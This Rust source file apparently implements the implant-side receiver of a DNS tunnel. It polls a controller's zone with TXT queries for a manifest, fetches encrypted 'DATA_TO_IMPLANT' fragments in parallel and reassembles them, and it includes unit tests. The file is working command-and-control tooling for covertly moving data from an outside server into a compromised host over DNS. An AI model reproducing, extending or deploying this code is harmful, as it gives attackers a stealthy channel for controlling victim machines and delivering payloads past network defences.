//! Envelope receiver (component I): poll for a manifest, fan out
//! fixed-size range requests, and reassemble by offset.
use tokio::sync::{mpsc, oneshot};

use crate::alphabet::Alphabet;
use crate::error::{TunnelError, TunnelResult};
use crate::frame::{Frame, FrameType};
use crate::packer::ParentZone;
use crate::worker::{QueryKind, WorkItem};

/// Plaintext bytes per DATA_TO_IMPLANT range request. A TXT response
/// accommodates roughly 189 dense-encoded characters; after 6 bytes of
/// frame overhead and a 1-byte safety margin, 182 plaintext bytes remain.
const RANGE_SIZE: u32 = 182;

/// Polls once for a pending manifest. Returns `Ok(None)` if there is
/// nothing pending (not an error).
pub async fn poll_manifest(
    queue: &async_channel::Sender<WorkItem>,
    alphabet: Alphabet,
    zone: &ParentZone,
) -> TunnelResult<Option<Frame>> {
    let poll = Frame { frame_type: FrameType::Poll, ..Default::default() };
    let encoded = alphabet.encode(&poll.encode());
    let name = zone.pack(&encoded)?;

    let (tx, rx) = oneshot::channel();
    let (result_tx, mut result_rx) = mpsc::channel(1);
    queue
        .send(WorkItem { kind: QueryKind::Txt, name, completion: tx, result_sink: Some(result_tx) })
        .await
        .map_err(|_| TunnelError::SessionClosed)?;
    let _ = rx.await;

    let result = result_rx.recv().await.ok_or(TunnelError::SessionClosed)?;
    if let Some(err) = result.error {
        return Err(err);
    }
    if result.data.is_empty() {
        return Ok(None);
    }
    let manifest = Frame::decode_expecting(&result.data, FrameType::Manifest)?;
    Ok(Some(manifest))
}

/// Fetches every `[i, i+RANGE_SIZE)` range for `manifest`, reassembles the
/// buffer by offset, and returns the raw (still-encrypted) bytes.
/// Partial-failure policy: any fragment error fails the whole receive.
pub async fn parallel_recv(
    queue: &async_channel::Sender<WorkItem>,
    zone: &ParentZone,
    manifest: &Frame,
) -> TunnelResult<Vec<u8>> {
    let size = manifest.size;
    let mut buffer = vec![0u8; size as usize];

    if size == 0 {
        return Ok(buffer);
    }

    let expected_fragments = size.div_ceil(RANGE_SIZE) as usize;
    let (result_tx, mut result_rx) = mpsc::channel(expected_fragments.max(1));

    let mut completions = Vec::with_capacity(expected_fragments);
    let mut i = 0u32;
    while i < size {
        let stop = (i + RANGE_SIZE).min(size);
        let request = Frame { frame_type: FrameType::DataToImplant, id: manifest.id, start: i, stop, ..Default::default() };
        // This request is always small enough to fit in the safe alphabet.
        let encoded = Alphabet::Safe.encode(&request.encode());
        let name = zone.pack(&encoded)?;

        let (tx, rx) = oneshot::channel();
        queue
            .send(WorkItem { kind: QueryKind::Txt, name, completion: tx, result_sink: Some(result_tx.clone()) })
            .await
            .map_err(|_| TunnelError::SessionClosed)?;
        completions.push(rx);
        i = stop;
    }
    drop(result_tx);

    for rx in completions {
        let _ = rx.await;
    }

    let mut first_error = None;
    for _ in 0..expected_fragments {
        let result = match result_rx.recv().await {
            Some(r) => r,
            None => break,
        };
        if let Some(err) = result.error {
            first_error.get_or_insert(err);
            continue;
        }
        match Frame::decode_expecting(&result.data, FrameType::DataToImplant) {
            Ok(response) => {
                if copy_into(&mut buffer, &response).is_err() {
                    first_error.get_or_insert(TunnelError::InvalidIndex);
                }
            }
            Err(e) => {
                first_error.get_or_insert(e);
            }
        }
    }

    if let Some(err) = first_error {
        return Err(err);
    }
    Ok(buffer)
}

fn copy_into(buffer: &mut [u8], response: &Frame) -> Result<(), ()> {
    let start = response.start as usize;
    let end = start + response.data.len();
    if response.start as usize > buffer.len() || end > buffer.len() {
        return Err(());
    }
    buffer[start..end].copy_from_slice(&response.data);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn copy_into_rejects_out_of_range_fragment() {
        let mut buffer = vec![0u8; 500];
        let response = Frame { frame_type: FrameType::DataToImplant, start: 480, data: vec![0u8; 40], ..Default::default() };
        assert!(copy_into(&mut buffer, &response).is_err());
    }

    #[test]
    fn copy_into_accepts_in_range_fragment() {
        let mut buffer = vec![0u8; 500];
        let response = Frame { frame_type: FrameType::DataToImplant, start: 100, data: vec![7u8; 50], ..Default::default() };
        assert!(copy_into(&mut buffer, &response).is_ok());
        assert_eq!(&buffer[100..150], &[7u8; 50][..]);
    }

    #[test]
    fn range_size_boundary_produces_expected_fragment_counts() {
        assert_eq!(RANGE_SIZE.div_ceil(RANGE_SIZE), 1);
        assert_eq!((RANGE_SIZE + 1).div_ceil(RANGE_SIZE), 2);
    }
}
